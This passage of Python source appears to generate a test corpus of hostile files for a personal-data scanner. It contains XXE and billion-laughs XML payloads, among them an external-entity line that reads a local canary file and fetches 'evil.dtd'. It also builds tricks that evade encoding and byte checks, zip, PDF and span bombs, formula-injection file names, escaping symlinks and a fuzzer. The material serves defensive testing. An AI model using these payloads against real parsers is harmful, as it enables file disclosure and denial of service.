    choice = m.rng.choice(("bomb", "xxe", "xxe", "param", "padded"))
    target = m.c.canary_file
    if choice == "bomb":
        return laughs(), "&lol9;"
    if choice == "xxe":
        return xxe(target), "&xxe;"
    if choice == "param":
        return (
            f'<!DOCTYPE r [<!ENTITY % p SYSTEM "file://{target}"> %p;'
            f' <!ENTITY % q SYSTEM "http://127.0.0.1:9/evil.dtd"> %q;]>',
            "x",
        )
    # a long comment before the DOCTYPE, to defeat a check of the first few bytes
    return "<!--" + "x" * 70_000 + "-->" + xxe(target), "&xxe;"


@kind(1.5)
def xml_attack_xlsx(m: Maker) -> None:
    prolog, ref = _xml_attack(m)
    rows = m.roster(4)
    target = m.rng.choice(("sheet", "shared", "workbook", "types", "rels"))
    strings: dict[str, int] = {}
    sheet = sheet_xml(rows, strings=strings)
    shared = shared_strings_xml(strings)
    if target == "sheet":
        sheet = _with_prolog(sheet.replace("<v>0</v>", "<v>0</v>", 1), prolog)
        sheet = sheet.replace(
            "</sheetData>",
            f'<row r="99"><c r="A99" t="inlineStr"><is><t>{ref}</t></is></c></row></sheetData>',
        )
    elif target == "shared":
        shared = _with_prolog(shared, prolog).replace("</sst>", f"<si><t>{ref}</t></si></sst>")
    parts = xlsx_parts([("名簿", sheet)], shared)
    if target == "workbook":
        parts["xl/workbook.xml"] = _with_prolog(parts["xl/workbook.xml"], prolog)
    elif target == "types":
        parts["[Content_Types].xml"] = _with_prolog(parts["[Content_Types].xml"], prolog)
    elif target == "rels":
        parts["_rels/.rels"] = _with_prolog(parts["_rels/.rels"], prolog)
    encodings = {}
    if m.rng.random() < 0.25:  # UTF-16 parts, to defeat a byte-level check
        for name in parts:
            if name.endswith(("sheet1.xml", "sharedStrings.xml")):
                parts[name] = parts[name].replace('encoding="UTF-8"', 'encoding="UTF-16"')
                encodings[name] = "utf-16"
    m.write(package(parts, encodings), ".xlsx", f"xml_attack_xlsx_{target}", "not_ok", _XML_REFUSED)


@kind(1)
def xml_attack_docx(m: Maker) -> None:
    prolog, ref = _xml_attack(m)
    document = docx_document_xml([f"本文 {ref}"], m.roster(4), prolog)
    m.write(package(docx_parts(document)), ".docx", "xml_attack_docx", "not_ok", _XML_REFUSED)


@kind(1)
def xml_attack_ods(m: Maker) -> None:
    prolog, ref = _xml_attack(m)
    rows = [*m.roster(4), [ref]]
    content = ods_content(rows, prolog).replace("<text:p>" + _esc(ref), "<text:p>" + ref)
    m.write(ods_bytes(content), ".ods", "xml_attack_ods", "not_ok", _XML_REFUSED)


@kind(0.3)
def xml_attack_plain(m: Maker) -> None:
    """Markup outside Office packages: read as text or HTML, entities never expanded."""
    prolog, ref = _xml_attack(m)
    if m.rng.random() < 0.5:
        data = f'<?xml version="1.0"?>\n{prolog}<r>{ref}</r>'.encode()
        m.write(data, ".xml", "xml_attack_plain_xml", "any")
    else:
        table = "".join(f"<tr><td>{c[1]}</td><td>{c[4]}</td></tr>" for c in m.roster(4))
        data = f"{prolog}<html><body><table>{table}<tr><td>{ref}</td></tr></table></body></html>"
        m.write(data.encode(), ".xls", "xml_attack_html", "any")


# ---- sheets that lie about their size ------------------------------------------------------


@kind(1)
def sheet_size_lie(m: Maker) -> None:
    rows = m.roster(4)
    choice = m.rng.choice(("dimension", "lone_cell", "far_cells", "huge_row", "merges"))
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    if choice == "dimension":
        sheet = sheet_xml(rows, dimension="A1:XFD1048576")
        expect = PI
    elif choice == "lone_cell":
        sheet = sheet_xml([], dimension="XFD1048576", extra_cells=far)
        expect = "any"
    elif choice == "far_cells":
        sheet = sheet_xml(rows, extra_cells=far)
        expect = "any"
    elif choice == "huge_row":
        sheet = sheet_xml(rows, row_offset=1_048_000)
        expect = "any"
    else:  # 50,000 vertical merges over the roster's columns
        merges = [
            f"{col_name(c)}{r}:{col_name(c)}{r + 1000}" for r in range(1, 5001) for c in range(10)
        ]
        sheet = sheet_xml(rows, merges=merges)
        expect = "any"
    data = package(xlsx_parts([("名簿", sheet)], None))
    m.write(data, ".xlsx", f"sheet_{choice}", expect)


# ---- broken PDFs ---------------------------------------------------------------------------


def _page(contents: int = 4, parent: int = 2) -> bytes:
    return (
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>" % (parent, contents)
    )


@kind(2)
def pdf_broken(m: Maker) -> None:
    p = m.c.canary.person if m.rng.random() < 0.3 else person(m.rng, 7)
    m.c.raw_values.update((p.phone, p.email))
    text = _stream(_pdf_text([f"mail {p.email}", f"tel {p.phone}"]))
    choice = m.rng.choice(
        ("xref_loop", "pages_cycle", "count_huge", "nested_arrays", "flate_bomb", "form_cycle",
         "truncated", "no_xref", "size_huge", "many_objects", "page_is_own_parent", "garbage")
    )  # fmt: skip
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    objs = [catalog, pages, _page(), text, _FONT]
    expect, reason = "any", ""
    if choice == "xref_loop":
        data = pdf_bytes(objs, prev=-1)  # /Prev points at its own xref section
    elif choice == "pages_cycle":
        objs[1] = b"<< /Type /Pages /Kids [6 0 R 3 0 R] /Count 2 >>"
        objs.append(b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 6 0 R] /Count 1 >>")
        data = pdf_bytes(objs)
    elif choice == "page_is_own_parent":
        objs[1] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 3 >>"
        data = pdf_bytes(objs)
    elif choice == "count_huge":
        objs[1] = b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"
        data = pdf_bytes(objs)
    elif choice == "nested_arrays":
        objs.append(b"[" * 200_000 + b"]" * 200_000)
        data = pdf_bytes(objs)
    elif choice == "flate_bomb":
        payload, _ = deflated_fill(200 * MB, b" ")
        objs[3] = _stream(zlib.compress(b"")[:2] + payload + b"\0\0\0\0", b" /Filter /FlateDecode")
        data = pdf_bytes(objs)
    elif choice == "form_cycle":
        objs[2] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> >>"
        )
        objs[3] = _stream(b"/X Do " + _pdf_text([p.email]))
        form = b"/X Do BT /F1 9 Tf (" + p.phone.encode() + b") Tj ET"
        objs.append(
            _stream(form, b" /Type /XObject /Subtype /Form /BBox [0 0 9 9] "
                          b"/Resources << /XObject << /X 6 0 R >> /Font << /F1 5 0 R >> >>")
        )  # fmt: skip
        data = pdf_bytes(objs)
    elif choice == "truncated":
        full = pdf_bytes(objs)
        data = full[: m.rng.randint(20, len(full) - 10)]
    elif choice == "no_xref":
        data = pdf_bytes(objs, xref=False, startxref=999_999)
    elif choice == "size_huge":
        data = pdf_bytes(objs, trailer_extra=b" /Size 2147483647").replace(
            b"0 6\n", b"0 99999999\n"
        )
    elif choice == "many_objects":
        extra = [b"<< /N %d >>" % i for i in range(m.rng.choice((20_000, 100_000)))]
        data = pdf_bytes(objs + extra)
    else:
        data = b"%PDF-1.7\n" + m.rng.randbytes(m.rng.randint(10, 5000))
        expect, reason = "not_ok", ""
    m.write(data, ".pdf", f"pdf_{choice}", expect, reason)


@kind(0.3)
def pdf_encrypted(m: Maker) -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(simple_pdf(["secret list"]))))
    writer.encrypt(user_password="pw", owner_password="owner", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    m.write(buf.getvalue(), ".pdf", "pdf_encrypted", "not_ok", "password")


# ---- bad encodings -------------------------------------------------------------------------


@kind(2)
def bad_encoding(m: Maker) -> None:
    rows = m.roster()
    choice = m.rng.choice(
        ("mixed", "invalid_utf8", "nul", "utf16_odd", "overlong", "iso2022_broken", "long_line",
         "wide", "binary", "lone_cr", "bom_garbage")
    )  # fmt: skip
    half = len(rows) // 2
    if choice == "mixed":
        data = csv_bytes(rows[:half], "utf-8") + csv_bytes(rows[half:], "cp932")
    elif choice == "invalid_utf8":
        raw = bytearray(csv_bytes(rows, "utf-8"))
        for _ in range(20):
            raw.insert(m.rng.randrange(len(raw)), m.rng.choice((0xFF, 0xC0, 0x80, 0xFE)))
        data = bytes(raw)
    elif choice == "nul":
        raw = bytearray(csv_bytes(rows, "cp932"))
        for _ in range(m.rng.choice((3, 300))):
            raw.insert(m.rng.randrange(len(raw)), 0)
        data = bytes(raw)
    elif choice == "utf16_odd":
        data = csv_bytes(rows, "utf-16") + b"\x00"
    elif choice == "overlong":
        data = csv_bytes(rows, "utf-8") + b"\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80,x\r\n"
    elif choice == "iso2022_broken":
        data = b"\x1b$B" + csv_bytes(rows, "iso2022_jp")[3:] + b"\x1b$B\xff\xfe"
    elif choice == "long_line":
        data = csv_bytes(rows) + b"a" * (m.rng.choice((1, 4)) * MB)
    elif choice == "wide":
        data = (",".join(f"c{i}" for i in range(50_000)) + "\r\n").encode() + csv_bytes(rows)
    elif choice == "binary":
        data = m.rng.randbytes(m.rng.randint(1, 20_000))
    elif choice == "lone_cr":
        data = csv_bytes(rows).replace(b"\r\n", b"\r")
    else:
        data = b"\xef\xbb\xbf" + m.rng.randbytes(3000)
    m.write(data, m.rng.choice((".csv", ".txt", ".tsv")), f"encoding_{choice}", "any")


# ---- names and the file system -------------------------------------------------------------


def _write_bytes_path(share: Path, rel: bytes, data: bytes) -> None:
    path = os.fsencode(share) + b"/" + rel
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as fh:
        fh.write(data)


@kind(0.5)
def hostile_name(m: Maker) -> None:
    m.n += 1
    n = m.n
    choice = m.rng.choice(("cp932", "invalid", "newline", "tab", "cr", "long", "formula", "bs"))
    names = {
        "cp932": "名簿_".encode("cp932") + b"%05d.csv" % n,
        "invalid": b"\xff\xfe\x80_%05d.csv" % n,
        "newline": "名簿\n2024_%05d.csv".encode() % n,
        "tab": b"a\tb_%05d.csv" % n,
        "cr": b"x\r_%05d\x07.csv" % n,
        "long": ("名" * 81).encode() + b"_%05d.csv" % n,
        "formula": b"=HYPERLINK(1)_%05d.csv" % n,
        "bs": b"back\\slash_%05d.csv" % n,
    }
    raw = b"names/" + names[choice]
    _write_bytes_path(m.c.share, raw, csv_bytes(m.roster()))
    m.c.entries.append(Entry(os.fsdecode(raw), f"name_{choice}", PI))


def exactly_255(m: Maker) -> None:
    stem = "あ" * 83  # 249 bytes
    name = stem + "xy.csv"
    assert len(name.encode()) == 255
    m.write(csv_bytes(m.roster()), "", "name_255_bytes", PI, rel=f"names/{name}")


def deep_folders(m: Maker) -> None:
    rel = "/".join(f"d{i:03d}" for i in range(120)) + "/深い名簿.csv"
    m.write(csv_bytes(m.roster()), "", "deep_120", PI, rel="deep/" + rel)


def deeper_than_path_max(m: Maker) -> None:
    """120 folders of 40-byte names: the absolute path is longer than PATH_MAX (4,096)."""
    names = [f"folder_{i:03d}_" + "x" * 29 for i in range(120)]
    fd = os.open(m.c.share, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for name in ["longpath", *names]:
            with contextlib.suppress(FileExistsError):
                os.mkdir(name, 0o755, dir_fd=fd)
            nxt = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = nxt
        out = os.open("名簿.csv", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=fd)
        with os.fdopen(out, "wb") as fh:
            fh.write(csv_bytes(m.roster()))
    finally:
        os.close(fd)
    m.c.entries.append(
        Entry("longpath/" + "/".join(names) + "/名簿.csv", "deeper_than_path_max", PI)
    )


def folders_300_deep(m: Maker) -> None:
    """Deeper than discovery's folder-depth limit (256): reported at the limit, not walked."""
    rel = "/".join("z" for _ in range(300)) + "/名簿.csv"
    path = m.c.share / "deep300" / rel
    path.parent.mkdir(parents=True)
    path.write_bytes(csv_bytes(m.roster()))
    m.c.entries.append(Entry("deep300/" + rel, "deeper_than_folder_limit", "under_limit"))


def special_files(m: Maker) -> None:
    share = m.c.share
    (share / "special").mkdir(exist_ok=True)
    os.mkfifo(share / "special" / "pipe.csv")
    m.c.entries.append(
        Entry("special/pipe.csv", "fifo", "not_ok", r"not a regular file \(fifo\)", "fifo")
    )
    os.mknod(share / "special" / "sock.csv", stat.S_IFSOCK | 0o644)
    m.c.entries.append(
        Entry("special/sock.csv", "socket", "not_ok", r"not a regular file \(socket\)", "socket")
    )
    if os.geteuid() == 0:  # /dev/zero's numbers: reading it would never end
        os.mknod(share / "special" / "zero.csv", stat.S_IFCHR | 0o644, os.makedev(1, 5))
        m.c.entries.append(
            Entry(
                "special/zero.csv",
                "chardev",
                "not_ok",
                r"not a regular file \(character device\)",
                "chardev",
            )
        )


def symlinks(m: Maker) -> None:
    share, outside = m.c.share, m.c.outside
    links = share / "links"
    links.mkdir(exist_ok=True)
    secret = outside / "secret_roster.csv"
    secret.write_bytes(csv_bytes(m.roster(canary=True)))
    (outside / "dir").mkdir(exist_ok=True)
    (outside / "dir" / "名簿.csv").write_bytes(csv_bytes(m.roster(canary=True)))
    table = {
        "to_canary.csv": m.c.canary_file,
        "to_secret.csv": secret,
        "to_outside_dir": outside / "dir",
        "to_root_dir": Path("/"),
        "relative_escape.csv": Path("../../outside/secret_roster.csv"),
        "loop_self": Path("loop_self"),
        "loop_a": Path("loop_b"),
        "loop_b": Path("loop_a"),
        "to_parent": Path(".."),
        "dangling.csv": Path("does/not/exist.csv"),
    }
    for name, target in table.items():
        os.symlink(target, links / name)
        m.c.entries.append(
            Entry(f"links/{name}", "symlink", "not_ok", r"symbolic link|symlink", "symlink")
        )


def permissions(m: Maker) -> None:
    share = m.c.share
    (share / "perm").mkdir(exist_ok=True)
    locked = share / "perm" / "locked.csv"
    locked.write_bytes(csv_bytes(m.roster()))
    os.chmod(locked, 0)
    m.c.entries.append(
        Entry("perm/locked.csv", "no_read_permission", "denied", "permission denied")
    )
    private = share / "perm" / "private"
    private.mkdir(exist_ok=True)
    (private / "名簿.csv").write_bytes(csv_bytes(m.roster()))
    os.chmod(private, 0o700)
    m.c.entries.append(
        Entry("perm/private", "no_list_permission", "denied", "permission denied", "dir")
    )
    m.c.entries.append(Entry("perm/private/名簿.csv", "inside_private", "inside_denied"))


def odd_files(m: Maker) -> None:
    share = m.c.share
    m.write(b"", ".csv", "empty", "ok")
    # images are read (by OCR): a roster named .png is listed, and read for what it is (a CSV)
    m.write(csv_bytes(m.roster()), ".png", "pi_named_png", "ok")
    m.write(b"MZ" + m.rng.randbytes(200), ".exe", "exe", "by_extension")
    m.write(csv_bytes(m.roster()), "", "hidden", "hidden", rel=".hidden_roster.csv")
    big = share / "big" / "sparse_huge.csv"
    big.parent.mkdir(exist_ok=True)
    with open(big, "wb") as fh:
        fh.truncate(600 * MB)
    m.c.entries.append(
        Entry("big/sparse_huge.csv", "sparse_over_size_limit", "not_ok", "size limit")
    )


ONCE: tuple[Callable[[Maker], None], ...] = (
    exactly_255,
    deep_folders,
    deeper_than_path_max,
    folders_300_deep,
    special_files,
    symlinks,
    permissions,
    odd_files,
)


# ---- bombs for the table readers ----------------------------------------------------------


@kind(0.3)
def ods_repeat_bomb(m: Maker) -> None:
    """Repeated rows and cells: LibreOffice's compression, abused to claim billions of cells."""
    rows = m.roster(4)
    cell = '<table:table-cell {}office:value-type="string"><text:p>x</text:p></table:table-cell>'
    choice = m.rng.choice(("both", "columns", "empty_tail"))
    if choice == "both":  # 1,048,000 rows × 16,384 columns, every cell a value
        extra = (
            '<table:table-row table:number-rows-repeated="1048000">'
            + cell.format('table:number-columns-repeated="16384" ')
            + "</table:table-row>"
        )
        expect, reason = "not_ok", "sheet too large|limit"
    elif choice == "columns":
        extra = (
            "<table:table-row>"
            + cell.format('table:number-columns-repeated="16384" ')
            + "</table:table-row>"
        )
        expect, reason = "any", ""
    else:  # what LibreOffice writes at the end of every sheet: must still be read
        extra = (
            '<table:table-row table:number-rows-repeated="1048570">'
            '<table:table-cell table:number-columns-repeated="1024"/></table:table-row>'
        )
        expect, reason = PI, ""
    data = ods_bytes(ods_content(rows, extra=extra))
    m.write(data, ".ods", f"ods_repeat_{choice}", expect, reason)


@kind(0.2)
def xls_far_cell(m: Maker) -> None:
    """A legacy workbook with one value in IV65536: 16.7 million cells to lay out."""
    try:
        import xlwt
    except ImportError:  # a dev dependency
        return
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("名簿")
    for r, row in enumerate(m.roster(4)):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    sheet.write(65535, 255, "x")
    buf = io.BytesIO()
    book.save(buf)
    m.write(buf.getvalue(), ".xls", "xls_far_cell", "not_ok", "sheet too large")


@kind(0.2)
def docx_span_bomb(m: Maker) -> None:
    doc = docx_document_xml(["名簿"], m.roster(4))
    doc = doc.replace("<w:tc>", '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>', 3)
    doc = doc.replace("<w:tr>", '<w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr>', 2)
    m.write(package(docx_parts(doc)), ".docx", "docx_span_bomb", "any")


@kind(0.1, heavy=True)
def html_span_bomb(m: Maker) -> None:
    """An "Excel" export that is HTML: 200 × 200 cells spanning 1,000 columns each."""
    cells = "".join('<td colspan="1000" rowspan="1000">a</td>' for _ in range(200))
    rows = "".join(f"<tr>{cells}</tr>" for _ in range(200))
    data = f"<html><body><table>{rows}</table></body></html>".encode()
    m.write(data, ".xls", "html_span_bomb", "any")


@kind(0.2)
def csv_wide_header(m: Maker) -> None:
    """A header of a million commas."""
    width = m.rng.choice((100_000, 1_000_000))
    data = b"a" + b",a" * (width - 1) + b"\r\n" + csv_bytes(m.roster(3))
    m.write(data, ".csv", "csv_wide_header", "any")


@kind(0.2)
def many_sheets(m: Maker) -> None:
    sheets = [(f"S{i}", sheet_xml([["x"]])) for i in range(1_200)]
    m.write(package(xlsx_parts(sheets, None)), ".xlsx", "many_sheets", "not_ok", "table limit")


@kind(0.2)
def pdf_heavy_content(m: Maker) -> None:
    """Pages whose content stream is megabytes of text operators (pypdf reads ~0.5 MB/s), the
    same stream shared by many pages: minutes of work hidden in a few kilobytes."""
    content = b"BT /F1 9 Tf 10 10 Td " + b"(abc def) Tj T* " * (m.rng.choice((2, 8)) * MB // 17)
    stream = _stream(zlib.compress(content + b"ET"), b" /Filter /FlateDecode")
    pages = m.rng.choice((1, 200))
    kids = " ".join(f"{6 + i} 0 R" for i in range(pages)).encode()
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        _page(),
        stream,
        _FONT,
    ] + [_page()] * pages
    m.write(pdf_bytes(objs), ".pdf", "pdf_heavy_content", "not_ok", "limit|budget")


# ---- the fuzzer ----------------------------------------------------------------------------


def flip_bytes(data: bytes, rng: random.Random) -> bytes:
    raw = bytearray(data)
    for _ in range(rng.randint(1, 1 + len(raw) // 2000)):
        raw[rng.randrange(len(raw))] ^= 1 << rng.randrange(8)
    return bytes(raw)


def truncate(data: bytes, rng: random.Random) -> bytes:
    return data[: rng.randrange(len(data))]


def duplicate_chunk(data: bytes, rng: random.Random) -> bytes:
    a = rng.randrange(len(data))
    b = min(len(data), a + rng.randint(1, 4096))
    at = rng.randrange(len(data))
    return data[:at] + data[a:b] * rng.randint(1, 8) + data[at:]


def zero_range(data: bytes, rng: random.Random) -> bytes:
    a = rng.randrange(len(data))
    b = min(len(data), a + rng.randint(1, 512))
    return data[:a] + b"\0" * (b - a) + data[b:]


def swap_members(data: bytes, rng: random.Random) -> bytes:
    """Zip member swaps: exchange two members' contents or names, drop or duplicate one."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        members = [(i.filename, zf.read(i)) for i in zf.infolist()]
    if len(members) < 2:
        return flip_bytes(data, rng)
    i, j = rng.sample(range(len(members)), 2)
    how = rng.choice(("contents", "names", "drop", "duplicate", "order"))
    if how == "contents":
        members[i], members[j] = (members[i][0], members[j][1]), (members[j][0], members[i][1])
    elif how == "names":
        members[i], members[j] = (members[j][0], members[i][1]), (members[i][0], members[j][1])
    elif how == "drop":
        del members[i]
    elif how == "duplicate":
        members.append((members[i][0], members[j][1]))
    else:
        rng.shuffle(members)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members:
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # duplicate names are the point
                zf.writestr(info, body)
    return buf.getvalue()


MUTATIONS = (flip_bytes, truncate, duplicate_chunk, zero_range)


def mutate(data: bytes, rng: random.Random, rounds: int = 0) -> tuple[bytes, str]:
    """One to three mutations; zips get member swaps too. Returns the bytes and their names."""
    names = []
    for _ in range(rounds or rng.randint(1, 3)):
        ops = list(MUTATIONS)
        if data[:4] == b"PK\x03\x04" and not names:
            ops += [swap_members] * 2
        op = rng.choice(ops)
        try:
            data = op(data, rng) if data else data
        except (zipfile.BadZipFile, ValueError, EOFError, OSError):
            data = flip_bytes(data, rng) if data else data
        names.append(op.__name__)
    return data, "+".join(names)


@kind(20)
def fuzzed_fixture(m: Maker) -> None:
    name, data = m.rng.choice(m.fixtures())
    mutated, how = mutate(data, m.rng)
    stem, ext = os.path.splitext(name)
    m.write(mutated, ext, "fuzz", "any", rel=f"fuzz/{m.name('fuzz', '')}_{how}_{stem}{ext}")


# ------------------------------------------------------------------------------------- main


def generate(
    outdir: Path,
    count: int = 200,
    seed: int = 0,
    only: tuple[str, ...] = (),
    heavy: bool = True,
) -> Corpus:
    """Write the corpus under ``outdir`` (which must not exist). ``only``: just these kinds
    (names of the functions registered with ``@kind``, or of ``ONCE``), for debugging;
    ``heavy=False`` leaves out the kinds that take seconds each to scan (for CI)."""
    outdir = Path(outdir).absolute()
    rng = random.Random(seed)
    corpus = Corpus(outdir, outdir / "share", outdir / "outside", seed, count, Canary.make(rng))
    corpus.share.mkdir(parents=True, exist_ok=False)
    corpus.outside.mkdir(parents=True, exist_ok=True)
    corpus.canary_file.write_text(corpus.canary.xxe + "\n", encoding="utf-8")
    maker = Maker(corpus, rng)
    for once in ONCE:
        if not only or once.__name__ in only:
            once(maker)
    wanted = [n for n in KINDS if (not only or n in only) and (heavy or n not in HEAVY)]
    for name in wanted:  # every kind at least once
        KINDS[name](maker)
    names = wanted
    weights = [WEIGHTS[n] for n in names]
    while names and len(corpus.entries) < count:
        KINDS[rng.choices(names, weights)[0]](maker)
    (outdir / "manifest.json").write_text(
        json.dumps(corpus.manifest(), ensure_ascii=True, indent=1), encoding="utf-8"
    )
    return corpus


# ------------------------------------------------------------------- share snapshots (tests)


@dataclass(frozen=True, slots=True)
class Seen:
    mode: int
    size: int
    mtime_ns: int
    ctime_ns: int
    uid: int
    gid: int
    nlink: int
    digest: str  # content hash for regular files, link target for symlinks, "" otherwise


def walk(root: Path) -> Iterator[tuple[str, os.stat_result, int | None]]:
    """Every entry under ``root`` by directory file descriptors (paths may exceed PATH_MAX),
    never following a link and never opening anything but folders: (rel, lstat, dir_fd)."""

    def inner(fd: int, rel: str) -> Iterator[tuple[str, os.stat_result, int | None]]:
        with os.scandir(fd) as it:
            entries = sorted(it, key=lambda e: e.name)
        for entry in entries:
            path = f"{rel}/{entry.name}" if rel else entry.name
            st = entry.stat(follow_symlinks=False)
            yield path, st, fd
            if stat.S_ISDIR(st.st_mode):
                try:
                    sub = os.open(
                        entry.name, os.O_RDONLY | os.O_DIRECTORY | os.O_NOFOLLOW, dir_fd=fd
                    )
                except PermissionError:
                    continue
                try:
                    yield from inner(sub, path)
                finally:
                    os.close(sub)

    top = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        yield from inner(top, "")
    finally:
        os.close(top)


def snapshot(root: Path) -> dict[str, Seen]:
    """lstat + content hash of every entry (regular files read through O_NOFOLLOW, root only)."""
    import hashlib

    seen = {}
    for rel, st, dir_fd in walk(root):
        name = rel.rsplit("/", 1)[-1]
        digest = ""
        if stat.S_ISREG(st.st_mode):
            fd = os.open(name, os.O_RDONLY | os.O_NOFOLLOW | os.O_NOATIME, dir_fd=dir_fd)
            h = hashlib.blake2b(digest_size=16)
            with os.fdopen(fd, "rb") as fh:
                while chunk := fh.read(4 * MB):
                    h.update(chunk)
            digest = h.hexdigest()
        elif stat.S_ISLNK(st.st_mode):
            digest = os.fsdecode(os.readlink(name, dir_fd=dir_fd))
        seen[rel] = Seen(
            st.st_mode, st.st_size, st.st_mtime_ns, st.st_ctime_ns, st.st_uid, st.st_gid,
            st.st_nlink, digest,
        )  # fmt: skip
    return seen


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("outdir", type=Path)
    parser.add_argument("--count", type=int, default=200)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--only", default="", help="comma-separated kinds (debugging)")
    args = parser.parse_args(argv)
    only = tuple(k for k in args.only.split(",") if k)
    corpus = generate(args.outdir, args.count, args.seed, only)
    kinds: dict[str, int] = {}
    for e in corpus.entries:
        kinds[e.kind] = kinds.get(e.kind, 0) + 1
    print(f"{len(corpus.entries)} entries in {corpus.share}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
